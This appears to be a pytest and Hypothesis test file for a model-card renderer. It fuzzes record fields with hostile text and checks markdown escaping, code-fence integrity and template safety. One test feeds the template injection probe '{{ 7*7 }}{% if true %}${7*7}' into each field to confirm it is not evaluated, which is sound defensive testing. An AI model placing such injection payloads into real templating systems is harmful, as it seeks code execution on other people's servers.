def test_snippet_of_an_adapter_changes_the_target_of_the_record(
    library: str,
    branch: str | None,
    hub: Hub,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """It prints what the fine-tuned model itself prints: peft finds every change."""
    state = random_state(Toy(), 0)
    generator = torch.Generator().manual_seed(3)
    tuned = {name: tensor + 0.3 * torch.randn(tensor.shape, generator=generator) for name, tensor in state.items()}
    folders = [WRITERS[library](tmp_path / name, Toy(), of) for name, of in (("base", state), ("tuned", tuned))]
    repo = hub.create("laion/target")
    commit = repo.commit_folder(folders[0])
    repo.commit_folder(WRITERS[library](tmp_path / "newer", Toy(width=32), random_state(Toy(width=32), 1)))
    vector = TaskVector.from_models(str(folders[1]), base=str(folders[0]))
    vector.save_adapter(tmp_path / "adapter", everything=True, device="cpu")
    adapter = hub.create("user/adapter")
    adapter.commit({"x": "y"})
    if branch is not None:
        adapter.branch(branch)
    adapter.commit_folder(tmp_path / "adapter", revision=branch or "main")
    record = toy_record(library, output=OutputRecord("adapter", {}, repo="user/adapter", revision=branch))
    record = replace(record, target=replace(record.target, id="laion/target", commit=commit))
    printed = run_snippet(render_card(record), tmp_path, monkeypatch, capsys)
    full = render_card(toy_record(library, output=OutputRecord("full", {})))
    assert printed == run_snippet(full, folders[1], monkeypatch, capsys)
    assert printed != run_snippet(full, folders[0], monkeypatch, capsys)


# Hostile texts


def _models(record: Record, **changes: Any) -> Record:
    """A change of source, base and target."""
    assert record.source.base is not None
    source = replace(record.source, base=replace(record.source.base, **changes), **changes)
    return replace(record, source=source, target=replace(record.target, **changes))


def _data(record: Record, **changes: Any) -> Record:
    assert record.data is not None
    return replace(record, data=replace(record.data, **changes))


def _output(record: Record, **changes: Any) -> Record:
    assert record.output is not None
    return replace(record, output=replace(record.output, **changes))


def _evaluation(record: Record, **changes: Any) -> Record:
    return replace(record, evaluation=[replace(entry, **changes) for entry in record.evaluation])


def _site(record: Record, **changes: Any) -> Record:
    return replace(record, sites=[*record.sites, replace(some_sites(1)[0], **changes)])


def _placed(record: Record, text: str) -> Record:
    return _data(record, example=ExampleRecord(row=3), columns={"image": text}, split=text, config=text)


FIELDS: dict[str, Callable[[Record, str], Record]] = {
    "version": lambda record, text: replace(record, hf_bico=text),
    "model id": lambda record, text: _models(record, id=text),
    "model commit": lambda record, text: _models(record, commit=text),
    "model files": lambda record, text: _models(record, sha256={text: "ab" * 32}),
    "model digest": lambda record, text: _models(record, sha256={WEIGHTS: text}),
    "kind": lambda record, text: replace(record, source=replace(record.source, kind=text)),
    "peft type": lambda record, text: replace(record, source=replace(record.source, kind="adapter", peft_type=text)),
    "licence": lambda record, text: _models(record, license=text),
    "licence name": lambda record, text: _models(record, license="other", license_name=text),
    "language": lambda record, text: _models(record, language=[text]),
    "data id": lambda record, text: _data(record, id=text),
    "data commit": lambda record, text: _data(record, commit=text),
    "split": lambda record, text: _data(record, split=text),
    "config": lambda record, text: _data(record, config=text),
    "sampling": lambda record, text: _data(record, sampling=text),
    "labels": lambda record, text: _data(record, labels=text),
    "columns": lambda record, text: _data(record, columns={text: text}),
    "class names": lambda record, text: _data(record, class_names=[text, text[:50], "dog"]),
    "parts": lambda record, text: _data(record, parts=[FilePart(text, [1], 2)]),
    "objective": lambda record, text: replace(record, objective=ObjectiveRecord(text, [text, text[:150] + "{}"])),
    "head": lambda record, text: replace(record, objective=replace(record.objective, head=text)),
    "tower": lambda record, text: replace(record, method=replace(record.method, tower=text)),
    "method": lambda record, text: replace(record, method=replace(record.method, name=text, completion=text)),
    "asked": lambda record, text: replace(record, method=replace(record.method, asked=text)),
    "candidates": lambda record, text: replace(
        record, method=replace(record.method, candidates=[CandidateRecord(text, 1.0, 0.1, False)])
    ),
    "unit": lambda record, text: replace(record, outlook=OutlookRecord(0.1, text)),
    "matching": lambda record, text: replace(record, method=replace(record.method, matching=text, signs=text)),
    "measured model": lambda record, text: replace(
        record, evaluation=[*record.evaluation, replace(record.evaluation[0], model=text)]
    ),
    "protocol": lambda record, text: _evaluation(record, protocol=text),
    "site": lambda record, text: _site(record, name=text),
    "role": lambda record, text: _site(record, role=text),
    "reason": lambda record, text: replace(record, left=[LeftRecord(text, text, 0.1)]),
    "repo": lambda record, text: _output(record, repo=text),
    "branch": lambda record, text: _output(record, revision=text),
    "files": lambda record, text: _output(record, files={text: "ab" * 32}),
    "metric": lambda record, text: _evaluation(record, metric=text),
    "measured split": lambda record, text: _evaluation(record, split=text),
    "measured data": lambda record, text: _evaluation(record, data=text),
    "notices": lambda record, text: replace(record, notices=[text, f"'{text}'"]),
    "command": lambda record, text: replace(record, command=shlex.join([*COMMAND.split(), "--config", text])),
    "device": lambda record, text: replace(record, run=replace(record.run, device=text, dtype=text)),
    "versions": lambda record, text: replace(record, run=replace(record.run, versions={text: text})),
    "title": lambda record, text: _output(record, title=text),
    "example": lambda record, text: _data(record, example=ExampleRecord([text, text])),
    "example's place": lambda record, text: _placed(record, text[:MAX_EXAMPLE]),
    "benchmark": lambda record, text: _data(record, benchmark=text),
}


KINDS = (
    *(a_record, a_path_record, a_scaled_record, a_walk_record, a_trained_record),
    *(a_decoder_record, a_classifier_record),
)


@settings(max_examples=100, deadline=None)
@given(
    fields=st.sets(st.sampled_from(sorted(FIELDS)), min_size=1),
    text=HOSTILE,
    format=st.sampled_from(["full", "delta", "adapter"]),
    kind=st.sampled_from(KINDS),
)
@example(fields={"role"}, text="x" * 5000, format="full", kind=lambda: a_record())
def test_no_text_breaks_the_card(fields: set[str], text: str, format: str, kind: Callable[[], Record]) -> None:
    """A hostile record gives the same metadata, blocks, marks and links as a dull one; only words differ."""
    made = an_adapter_record() if format == "adapter" and kind is a_record else kind()
    hostile = benign = _output(made, format=format)
    for field in sorted(fields):
        hostile, benign = FIELDS[field](hostile, text), FIELDS[field](benign, BENIGN)
    card, expected = render_card(hostile), render_card(benign)
    is_role = role_labels([text])[text] != role_labels([BENIGN])[BENIGN]  # a path of modules has a line of its own
    assert shape(metadata(card)) == shape(metadata(expected))
    assert skeleton(card) == skeleton(expected)
    assert headings(card)[1:] == headings(expected)[1:], "the first one names local models"
    for block, other in zip(fences(card), fences(expected), strict=True):
        if block.info == "python":
            assert python_without_texts(block.content) == python_without_texts(other.content)
        elif block.info == "sh":
            assert block.content.count("\n") == 2
        elif "role" in fields and is_role:
            assert block.content.count("\n") == other.content.count("\n")
        else:
            assert block.content == other.content
    wrong = {letter for letter in card if unicodedata.category(letter) in ("Cc", "Cf", "Cs", "Zl", "Zp")} - {"\n"}
    assert not wrong
    assert len(card.encode()) < 60_000


def test_an_image_behind_too_long_names_is_not_loaded() -> None:
    assert "load_dataset" in render_card(_placed(a_record(), "x" * MAX_EXAMPLE))
    assert "load_dataset" not in render_card(_placed(a_record(), "x" * (MAX_EXAMPLE + 1)))


@pytest.mark.parametrize("field", sorted(FIELDS))
def test_no_text_is_run_as_a_template(field: str) -> None:
    card = render_card(FIELDS[field](a_record(), "{{ 7*7 }}{% if true %}${7*7}"))
    assert "49" not in card


def read(markdown: str) -> list[str]:
    """The texts of what a reader sees, one a block."""
    found = MarkdownIt("commonmark").enable("table").parse(markdown)
    return ["".join(part.content for part in token.children) for token in found if token.children is not None]


@settings(max_examples=300, deadline=None)
@given(HOSTILE)
def test_escaped_text_reads_as_it_was_given(text: str) -> None:
    shown = clean(text, 400)
    assert len(shown) <= 400
    assert read(f"Seen: {plain(text)}") == [f"Seen: {shown}".strip()]
    assert read(f"| a | b |\n|---|---|\n| {plain(text)} | c |") == ["a", "b", shown, "c"]
    assert read(f"Seen: {code(text, 400)}.") == [f"Seen: {shown or chr(34) * 2}."]
    assert ast.literal_eval(literal([text, text])) == [text, text]
    assert not re.search(r"(?i)(?<!\\)://|www\.", plain(text)), "some readers make links of these"


@pytest.mark.parametrize("text", ["x\n```\ny", "~~~\n````\nx", "x"])
def test_nothing_ends_a_code_block(text: str) -> None:
    (block,) = MarkdownIt("commonmark").parse(fenced(text, "sh"))
    assert (block.type, block.info, block.content) == ("fence", "sh", text + "\n")


def test_long_texts_are_cut() -> None:
    record = a_record()
    for field in FIELDS.values():
        record = field(record, "x " * 5_000)
    assert len(render_card(record)) < len(render_card(a_record())) + 10_000
